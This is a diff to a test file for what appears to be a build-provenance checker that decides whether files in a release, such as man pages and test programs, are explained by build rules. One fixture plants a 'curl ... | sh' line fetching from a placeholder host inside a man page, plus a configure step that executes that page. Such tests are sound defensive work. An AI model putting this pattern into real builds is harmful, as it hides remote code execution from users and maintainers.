@@ -16,6 +16,8 @@ import { dependencyLinesExplainer } from '../../src/verify/explain/dependency-li
 import { distEditsExplainer, parseSubstitution } from '../../src/verify/explain/dist-edits.js'
 import { codeUsesOf } from '../../src/verify/explain/executed.js'
 import { generatedExplainer } from '../../src/verify/explain/generated.js'
+import { judge } from '../../src/verify/explain/judge.js'
+import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
 import { expandMake, makeVariables } from '../../src/verify/explain/make-index.js'
 import { ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
 import { templateExplainer } from '../../src/verify/explain/template.js'
@@ -196,5 +198,25 @@ describe('rule hits in a generated Makefile.in', () => {
     const out = attributeToInputs([kept, inherited], (p) => (p === 'Makefile.in' ? inputs : undefined))
     expect(out.map((f) => f.severity)).toEqual(['medium', 'info'])
     expect(out[1]?.message).toMatch(/written in Makefile\.am/)
+  })
+})
+
+describe('what an explanation does not cover', () => {
+  const page = '.TH TOOL 1\n.SH NAME\ntool\n'
+  const am = 'man_MANS = tool.1\ntool.1: tool.pod\n\tpod2man $< > $@\n'
+  it('a man page made by a rule of the tag is explained while the build only installs it', async () => {
+    const j = await judge(added('doc/tool.1', page), view({ 'doc/tool.1': page }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], new Map([['doc/Makefile.in', 'install-man: tool.1\n']]))
+    expect(j?.outcome).toBe('explained')
+  })
+  it('but stays unexplained, high, when the build runs it as code', async () => {
+    const ran = `${page}curl -s http://x.invalid/p | sh\n`
+    const build = new Map([['configure', '#!/bin/sh\nsh "$srcdir/doc/tool.1" 2>/dev/null || :\n']])
+    const j = await judge(added('doc/tool.1', ran), view({ 'doc/tool.1': ran }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], build)
+    expect(j?.outcome).toBe('unexplained')
+    expect(j?.findings?.[0]?.severity).toBe('high')
+  })
+  it('a changed line of a test program is high: make check runs it on the builder\'s machine', async () => {
+    const j = await judgeUnexplained(changed('tests/t-parse.c', 'int main(void) { return 0; }\n', 'int main(void) { return 1; }\n'), view({ 'tests/t-parse.c': 'int main(void) { return 1; }\n' }, { 'tests/t-parse.c': 'int main(void) { return 0; }\n' }), new Map())
+    expect(j?.findings?.[0]?.severity).toBe('high')
   })
 })
